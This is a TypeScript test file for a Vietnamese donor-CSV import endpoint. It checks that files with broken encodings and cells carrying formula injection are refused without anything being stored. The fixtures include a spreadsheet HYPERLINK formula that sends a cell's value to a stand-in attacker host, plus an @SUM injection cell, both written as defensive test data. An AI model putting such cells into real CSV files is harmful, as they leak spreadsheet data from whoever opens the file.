import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { createHarness, type Harness } from '../support/harness';
import { donors } from '../../src/db/schema';

/** Hostile CSV files: broken encodings and formula-injection cells are refused, nothing stored. */
let h: Harness;
beforeAll(async () => {
  h = await createHarness();
});
afterAll(() => h?.close());

const base = '/api/v1/orgs/hai-phong/donors/import';
const header = 'Họ tên,Loại,Email,Số điện thoại,Ngôn ngữ,Đồng ý nhận email,Ẩn danh,Nhãn,Quốc gia\r\n';

async function countDonors() {
  return (await h.db.select().from(donors).where(eq(donors.orgId, h.demo.orgId))).length;
}

describe('hostile CSV imports', () => {
  it('a file in a legacy Vietnamese encoding (decoded with replacement characters) is refused with its line number', async () => {
    // "Nguyễn" saved as Windows-1258 bytes and read as UTF-8.
    const bytes = new Uint8Array([...new TextEncoder().encode(header + 'Nguy'), 0xea, 0xde, ...new TextEncoder().encode('n Lan,cá nhân,,,vi,có,không,,VN\r\n')]);
    const decoded = new TextDecoder().decode(bytes);
    expect(decoded).toContain('\uFFFD');
    const before = await countDonors();
    const res = await h.request(base, { as: 'coordinator', method: 'POST', json: { csv: decoded, dryRun: false } });
    expect(res.status).toBe(400);
    const body = (await res.json()) as { errors: { path: string; message: string }[] };
    expect(body.errors[0]).toMatchObject({ path: 'csv.line.2' });
    expect(body.errors[0]!.message).toMatch(/UTF-8/);
    expect(await countDonors()).toBe(before);
  });

  it('formula-injection cells are refused and nothing of the file is imported', async () => {
    const before = await countDonors();
    const csv =
      header +
      'Phạm Thu Hà,cá nhân,ha.pham@example.org,,vi,có,không,,VN\r\n' +
      '"=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")",cá nhân,,,vi,có,không,,VN\r\n' +
      'Đỗ Minh,cá nhân,,+84912345678,vi,có,không,@SUM(1+1),VN\r\n';
    const res = await h.request(base, { as: 'coordinator', method: 'POST', json: { csv, dryRun: false } });
    expect(res.status).toBe(400);
    const body = (await res.json()) as { errors: { path: string; message: string }[] };
    expect(body.errors.map((e) => e.path)).toEqual(['csv.line.3', 'csv.line.4']);
    expect(body.errors[0]!.message).toMatch(/formula/);
    expect(await countDonors()).toBe(before);
  });

  it('a phone number with a leading + is still accepted', async () => {
    const res = await h.request(base, {
      as: 'coordinator',
      method: 'POST',
      json: { csv: header + 'Vũ Thị Hoa,cá nhân,,+84 912 000 111,vi,có,không,,VN\r\n', dryRun: false },
    });
    expect(res.status).toBe(200);
  });
});
